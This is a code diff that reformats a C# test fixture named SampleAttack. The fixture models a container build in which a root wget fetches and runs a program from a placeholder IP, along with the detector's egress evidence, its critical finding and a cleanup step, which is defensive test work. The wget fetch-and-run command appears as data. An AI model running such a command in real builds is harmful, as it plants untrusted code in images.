@@ -13,14 +13,29 @@ internal static class SampleAttack
     {
         var wget = new ProcessInfo
         {
-            Pid = 4711, Uid = 0, User = "root", Auid = uint.MaxValue, Exe = "/usr/bin/wget" + said, Args = { "wget", "-q", $"http://203.0.113.66:8080/x{said}" },
-            ContainerId = "0123456789abcdef0123", Ancestors = { new ProcessAncestor { Pid = 4700, Exe = "/bin/sh", Command = $"/bin/sh -c wget{said}" } },
+            Pid = 4711,
+            Uid = 0,
+            User = "root",
+            Auid = uint.MaxValue,
+            Exe = "/usr/bin/wget" + said,
+            Args = { "wget", "-q", $"http://203.0.113.66:8080/x{said}" },
+            ContainerId = "0123456789abcdef0123",
+            Ancestors = { new ProcessAncestor { Pid = 4700, Exe = "/bin/sh", Command = $"/bin/sh -c wget{said}" } },
         };
         var egress = new Egress
         {
-            Address = "203.0.113.66", Port = 8080, Protocol = EgressProtocol.Tcp, Outcome = EgressOutcome.Established, Path = EgressPath.Syscall,
-            Novelty = Novelty.NeverSeen, Names = { new EgressName { Name = $"cdn.example{said}", Source = "dns" } }, Process = wget, Attempts = 3,
-            BytesSent = 120, BytesReceived = 91_234, Reason = "never seen in 41 builds of alpine" + said,
+            Address = "203.0.113.66",
+            Port = 8080,
+            Protocol = EgressProtocol.Tcp,
+            Outcome = EgressOutcome.Established,
+            Path = EgressPath.Syscall,
+            Novelty = Novelty.NeverSeen,
+            Names = { new EgressName { Name = $"cdn.example{said}", Source = "dns" } },
+            Process = wget,
+            Attempts = 3,
+            BytesSent = 120,
+            BytesReceived = 91_234,
+            Reason = "never seen in 41 builds of alpine" + said,
         };
         var coverage = new Coverage
         {
@@ -37,8 +52,15 @@ internal static class SampleAttack
         {
             Build = new Build
             {
-                Id = $"build/1{said}", Builder = Builder.Buildkit, State = BuildState.Ended, Verdict = Verdict.Malicious, Result = BuildResult.Succeeded,
-                StartTime = Start, EndTime = Later(9), EngineSocket = "/run/docker.sock", BaseImages = { $"docker.io/library/alpine:3.20{said}" },
+                Id = $"build/1{said}",
+                Builder = Builder.Buildkit,
+                State = BuildState.Ended,
+                Verdict = Verdict.Malicious,
+                Result = BuildResult.Succeeded,
+                StartTime = Start,
+                EndTime = Later(9),
+                EngineSocket = "/run/docker.sock",
+                BaseImages = { $"docker.io/library/alpine:3.20{said}" },
                 Image = new BuildImage { Id = "sha256:feedbeef0123456789", Tags = { $"shop/web:latest{said}" } },
                 Clients =
                 {
@@ -59,19 +81,32 @@ internal static class SampleAttack
                     },
                 },
                 DaemonFetches = { new DaemonFetch { Kind = "pull", What = $"docker.io/library/alpine:3.20{said}", Digest = "sha256:beef" } },
-                Coverage = coverage, Notes = { "the Dockerfile was read from the client's request" + said }, FindingUids = { $"f/1{said}" },
+                Coverage = coverage,
+                Notes = { "the Dockerfile was read from the client's request" + said },
+                FindingUids = { $"f/1{said}" },
             },
         };
         yield return new OutputRecord
         {
             Finding = new Finding
             {
-                Uid = $"f/1{said}", Activity = Activity.Create, Detector = "downloaded-executable", Title = "Build step fetched and ran a program" + said,
+                Uid = $"f/1{said}",
+                Activity = Activity.Create,
+                Detector = "downloaded-executable",
+                Title = "Build step fetched and ran a program" + said,
                 Message = $"Step 2 of 2 of shop/web:latest fetched /usr/local/bin/x from 203.0.113.66:8080, never seen before, and ran it{said}.",
-                Severity = Severity.Critical, Confidence = 0.95, BuildId = $"build/1{said}", StepId = "s2", ImageId = "sha256:feedbeef0123456789", Time = Later(6), StartTime = Later(3), EndTime = Later(5),
+                Severity = Severity.Critical,
+                Confidence = 0.95,
+                BuildId = $"build/1{said}",
+                StepId = "s2",
+                ImageId = "sha256:feedbeef0123456789",
+                Time = Later(6),
+                StartTime = Later(3),
+                EndTime = Later(5),
                 Techniques = { new Technique { TechniqueId = "T1612", TechniqueName = "Build Image on Host", TacticId = "TA0005", TacticName = "Stealth", AttackVersion = "20.0" } },
                 Evidence = { new Evidence { Time = Later(3), Summary = "wget connected to 203.0.113.66:8080" + said, Egress = egress, Process = wget } },
-                Coverage = coverage, NextSteps = { "docker image rm shop/web:latest" + said },
+                Coverage = coverage,
+                NextSteps = { "docker image rm shop/web:latest" + said },
             },
         };
     }
